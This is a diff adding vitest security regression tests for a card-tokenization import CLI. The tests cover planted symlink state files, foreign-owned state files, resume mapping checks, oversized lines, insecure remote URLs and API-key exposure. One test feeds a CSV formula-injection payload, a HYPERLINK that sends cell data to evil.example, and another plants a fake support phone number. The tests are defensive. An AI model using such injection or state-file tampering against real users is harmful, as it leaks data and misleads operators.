@@ -1,0 +1,237 @@
+import { createHash, randomUUID } from "node:crypto";
+import { chownSync, mkdtempSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
+import { runImport } from "../../scripts/cli/import.ts";
+
+const quiet = { write: () => true, isTTY: false };
+const dir = () => mkdtempSync(join(tmpdir(), "svc-review-"));
+const card = (i: number, extra: Record<string, unknown> = {}) => ({
+  type: "card",
+  data: { number: "4242424242424242", expiration_month: 1 + (i % 12), expiration_year: 2030 },
+  ...extra,
+});
+
+/** A vault that tokenizes anything: every request of a batch answered with a fresh token id. */
+let sent: number;
+beforeEach(() => {
+  sent = 0;
+  vi.stubGlobal(
+    "fetch",
+    vi.fn(async (_url: string, init: { body?: string }) => {
+      const batch = JSON.parse(init.body ?? "[]") as unknown[];
+      sent += batch.length;
+      const now = new Date().toISOString();
+      return new Response(JSON.stringify(batch.map(() => ({ id: randomUUID(), created_at: now }))), {
+        status: 201,
+        headers: { "content-type": "application/json", date: new Date().toUTCString() },
+      });
+    }),
+  );
+});
+afterEach(() => vi.unstubAllGlobals());
+
+const options = (file: string) => ({
+  file,
+  url: "http://127.0.0.1:1",
+  key: "key_test",
+  batchSize: 5,
+  concurrency: 1,
+  progress: quiet,
+});
+
+describe("import CLI: import state and mapping on resume", () => {
+  it("refuses a state file planted as a symbolic link (it was: read and trusted, nothing imported, success reported)", async () => {
+    const folder = dir();
+    const file = join(folder, "cards.jsonl");
+    writeFileSync(file, `${Array.from({ length: 10 }, (_, i) => JSON.stringify(card(i))).join("\n")}\n`);
+    // The attacker (another local user of a shared directory) can read the input, so knows its SHA-256.
+    const sha = createHash("sha256").update(readFileSync(file)).digest("hex");
+    const planted = join(mkdtempSync(join(tmpdir(), "attacker-")), "state");
+    writeFileSync(
+      planted,
+      [
+        { version: 1, file_sha256: sha, batch_size: 5, id_column: null, key_secret: "00" },
+        { batch: 0, records: 5, created: 5, deduplicated: 0, failed: [], mapping_bytes: 0 },
+        { batch: 1, records: 5, created: 5, deduplicated: 0, failed: [], mapping_bytes: 0 },
+      ]
+        .map((l) => JSON.stringify(l))
+        .join("\n"),
+    );
+    symlinkSync(planted, `${file}.import-state`);
+    expect(readlinkSync(`${file}.import-state`)).toBe(planted);
+
+    // On main: sent 0, summary { records: 10, created: 10, failed: [] }, a mapping with no row, exit 0.
+    await expect(runImport(options(file))).rejects.toThrow(/symbolic link/);
+    expect(sent).toBe(0);
+  });
+
+  it("refuses a state file owned by another user (it was: read and trusted, its failures reported as the import's)", async () => {
+    if (process.getuid?.() !== 0) return; // needs chown
+    const folder = dir();
+    const file = join(folder, "cards.jsonl");
+    writeFileSync(file, `${Array.from({ length: 5 }, (_, i) => JSON.stringify(card(i))).join("\n")}\n`);
+    const sha = createHash("sha256").update(readFileSync(file)).digest("hex");
+    writeFileSync(
+      `${file}.import-state`,
+      [
+        { version: 1, file_sha256: sha, batch_size: 5, id_column: null, key_secret: "00" },
+        {
+          batch: 0,
+          records: 5,
+          created: 0,
+          deduplicated: 0,
+          failed: [{ line: 1, status: 400, detail: "Call +1-555-0100 to fix your import" }],
+          mapping_bytes: 0,
+        },
+      ]
+        .map((l) => JSON.stringify(l))
+        .join("\n"),
+    );
+    chownSync(`${file}.import-state`, 65534, 65534);
+
+    // On main: sent 0, summary.failed = the planted failure, printed to the terminal.
+    await expect(runImport(options(file))).rejects.toThrow(/not a regular file of yours/);
+    expect(sent).toBe(0);
+  });
+
+  it("refuses to resume without the mapping of the finished batches (it was: their token ids lost for good, success reported)", async () => {
+    const folder = dir();
+    const file = join(folder, "cards.jsonl");
+    writeFileSync(file, `${Array.from({ length: 20 }, (_, i) => JSON.stringify(card(i))).join("\n")}\n`);
+    const abort = new AbortController();
+    let batches = 0;
+    await expect(
+      runImport({
+        ...options(file),
+        signal: abort.signal,
+        onBatch: () => {
+          if (++batches === 2) abort.abort();
+        },
+      }),
+    ).rejects.toThrow();
+    const firstRun = sent;
+    expect(firstRun).toBeGreaterThanOrEqual(10);
+
+    // The operator resumes with the mapping written elsewhere (or the first one deleted).
+    // On main: { records: 20, created: 20, failed: [] } with 10 mapping rows: 10 token ids gone for good.
+    await expect(runImport({ ...options(file), mappingFile: join(folder, "other.csv") })).rejects.toThrow(
+      /is missing/,
+    );
+    // The first run's mapping still resumes.
+    const summary = await runImport(options(file));
+    expect(readFileSync(summary.mapping_file, "utf8").trim().split("\n").slice(1)).toHaveLength(20);
+  });
+
+  it("refuses a mapping file shorter than the state records (it was: ftruncate pads it with NUL bytes)", async () => {
+    const folder = dir();
+    const file = join(folder, "cards.jsonl");
+    writeFileSync(file, `${Array.from({ length: 20 }, (_, i) => JSON.stringify(card(i))).join("\n")}\n`);
+    const abort = new AbortController();
+    let batches = 0;
+    await expect(
+      runImport({
+        ...options(file),
+        signal: abort.signal,
+        onBatch: () => {
+          if (++batches === 2) abort.abort();
+        },
+      }),
+    ).rejects.toThrow();
+    const other = join(folder, "other.csv");
+    writeFileSync(other, "x\n");
+    await expect(runImport({ ...options(file), mappingFile: other })).rejects.toThrow(/shorter/);
+    expect(readFileSync(other, "utf8")).toBe("x\n");
+  });
+});
+
+describe("import CLI: mapping file content", () => {
+  it('never writes an external id as a spreadsheet formula (it was: `"=HYPERLINK(…` as is: CSV injection)', async () => {
+    const folder = dir();
+    const file = join(folder, "cards.csv");
+    writeFileSync(
+      file,
+      'type,data.number,customer_id\ncard,4242424242424242,"=HYPERLINK(""https://evil.example/?""&A1,""open"")"\n',
+    );
+    const summary = await runImport({ ...options(file), idColumn: "customer_id" });
+    const row = readFileSync(summary.mapping_file, "utf8").trim().split("\n")[1] ?? "";
+    // On main the cell starts with `"=`: a spreadsheet strips the quotes and evaluates the formula.
+    expect(row).toMatch(/^2,"'=HYPERLINK\(/);
+  });
+});
+
+describe("import CLI: the input's lines", () => {
+  it("skips a line longer than the service's body limit as it streams by (it was: read whole, parsed and sent: memory grows with the longest line)", async () => {
+    const folder = dir();
+    const file = join(folder, "big.jsonl");
+    const huge = "x".repeat(20 * 1024 * 1024);
+    writeFileSync(file, `${JSON.stringify(card(1, { metadata: { note: huge } }))}\n`);
+    let largest = 0;
+    vi.stubGlobal(
+      "fetch",
+      vi.fn(async (_url: string, init: { body?: string }) => {
+        largest = Math.max(largest, (init.body ?? "").length);
+        return new Response(JSON.stringify({ status: 413, title: "Payload Too Large" }), { status: 413 });
+      }),
+    );
+    writeFileSync(file, `${JSON.stringify(card(2))}\n`, { flag: "a" });
+    const summary = await runImport(options(file));
+    // On main: a 20 MiB body was sent (largest > 20 MiB) and line 1 failed with the service's 413.
+    expect(largest).toBeLessThan(1024 * 1024);
+    expect(summary.failed[0]).toMatchObject({ line: 1, detail: expect.stringMatching(/longer than/) });
+    expect(summary.failed[0]).not.toHaveProperty("status"); // never sent
+  });
+});
+
+describe("import CLI: the vault's URL", () => {
+  it("refuses a remote http:// --url (it was: a warning, then the key and the cards in the clear)", async () => {
+    const { main } = await import("../../scripts/cli/main.ts");
+    const folder = dir();
+    const file = join(folder, "cards.jsonl");
+    writeFileSync(file, `${JSON.stringify(card(1))}\n`);
+    const calls: { url: string; key: string | undefined; body: string }[] = [];
+    const stub = vi.fn(async (url: string, init: { body?: string; headers: Record<string, string> }) => {
+      calls.push({ url, key: init.headers["svc-api-key"], body: init.body ?? "" });
+      return new Response(JSON.stringify([{ id: randomUUID(), created_at: new Date().toISOString() }]), {
+        status: 201,
+      });
+    });
+    vi.stubGlobal("fetch", stub);
+    const write = vi.spyOn(process.stdout, "write").mockImplementation(() => true);
+    const err = vi.spyOn(process.stderr, "write").mockImplementation(() => true);
+    try {
+      process.env.SVC_API_KEY = "key_secret";
+      const code = await main(["import", file, "--url", "http://vault.example.com"]);
+      // On main: exit 0, and fetch got http://vault.example.com/tokenize with the key and the card number.
+      expect(code).toBe(2);
+      expect(await main(["import", file, "--url", "http://127.0.0.1:3000@vault.example.com"])).toBe(2);
+    } finally {
+      delete process.env.SVC_API_KEY;
+      write.mockRestore();
+      err.mockRestore();
+    }
+    expect(calls).toEqual([]);
+  });
+});
+
+describe("import CLI: the API key on the command line", () => {
+  it("warns that --key is readable by every local user for the whole run", async () => {
+    const { main } = await import("../../scripts/cli/main.ts");
+    const file = join(dir(), "cards.jsonl");
+    writeFileSync(file, `${JSON.stringify(card(1))}\n`);
+    const said: string[] = [];
+    const write = vi.spyOn(process.stdout, "write").mockImplementation(() => true);
+    const err = vi.spyOn(process.stderr, "write").mockImplementation((chunk) => {
+      said.push(String(chunk));
+      return true;
+    });
+    try {
+      expect(await main(["import", file, "--key", "key_test", "--url", "http://127.0.0.1:1"])).toBe(0);
+    } finally {
+      write.mockRestore();
+      err.mockRestore();
+    }
+    expect(said.join("")).toMatch(/--key puts the key on the command line/);
+  });
+});
